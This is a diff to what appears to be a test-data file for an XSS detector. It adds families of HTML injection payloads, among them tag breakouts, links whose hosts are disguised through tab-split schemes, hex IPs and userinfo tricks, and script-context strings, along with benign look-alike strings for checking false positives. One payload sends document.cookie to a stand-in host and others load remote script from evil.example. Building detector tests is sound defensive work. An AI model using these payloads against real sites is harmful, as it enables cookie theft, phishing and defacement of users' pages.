@@ -52,7 +52,17 @@ FAMILIES = {
     # out of the attribute and the tag, then markup of its own (no script needed: defacement, phishing)
     "breakout markup": ["'><h1>X</h1>", '"><A HREF="//evil.example">log in</A>', "'\">><marquee><h1>1</h1></marquee>",
                         '-1"><img/src="x.png" alt="a">', '>"<a href="//evil.example">', "x'> <form action=//e.x>",
-                        '\\\'"><br><br><b><u>X</u></b>'],
+                        '\\\'"><br><br><b><u>X</u></b>', "</title><h1>X</h1>", "</textarea><img src=x.png>",
+                        '"></textarea><b>x</b>'],
+    # injected links whose URL is spelled so that a filter and the browser read different hosts
+    "evasive link": ['<A HREF="h tt\tp://6&#09;6.000146.0x7.147/">X</A>', '<A HREF="htt\tp://6\t6.000146.0x7.147/">XSS</A>',
+                     '<A HREF="http://ha.ckers.org@google">XSS</A>', '<A HREF="http://google:ha.ckers.org">XSS</A>',
+                     '<A HREF="http://www.gohttp://www.google.com/ogle.com/">XSS</A>',
+                     '<a href="http&#58;//www&#46;evil&#46;example/">x</a>', '<img src="http://0x42.0x0000066.0x7.0x93/x.png">',
+                     '<a href="http://bank.example@evil.example/login">log in</a>'],
+    # written into the page's script block, then closing it
+    "script context": ["$,_=1}}).$=alert</script>", 'src="http://evil.example/x.js"></script>',
+                       "x=document.cookie;new Image().src='//e.x/?'+x</script>", "src=//e.x/a.js></script>"],
 }
 
 LOOK_ALIKES = [
@@ -64,6 +74,13 @@ LOOK_ALIKES = [
     "0 || 'default'", "a ? 'yes' : 'no'", "x && 'y'", "\\74 is an octal escape",
     'say "hi"><b>x</b>', '"quoted" <b>x</b>', "'><3", '"><x>', '5">', "it's > 'that' <b>", '"a" > "b"',
     "'>' is greater-than", 'He said "no"> <i>maybe</i>',
+    '<a href="https://example.com/a?b=c&amp;d=e">link</a>', '<a href="http://example.com:8080/">x</a>',
+    '<a href="https://web.archive.org/web/2020/https://example.com/">archived</a>',
+    '<a href="https://medium.com/@user/post">post</a>', '<img src="https://cdn.example/x.png?a=1&#38;b=2">',
+    '<a href="mailto:someone@example.com">mail</a>', '<a href="http://66.102.7.147/">by IP</a>',
+    "see the </script> tag", "Use alert() inside </script>", 'type="text/javascript"></script>',
+    "close it with ); </script>", "</b><h1>x</h1>", "text </title><h1>x</h1>", "</title>",
+    "</div><div class=a>t</div>",
 ]
 
 
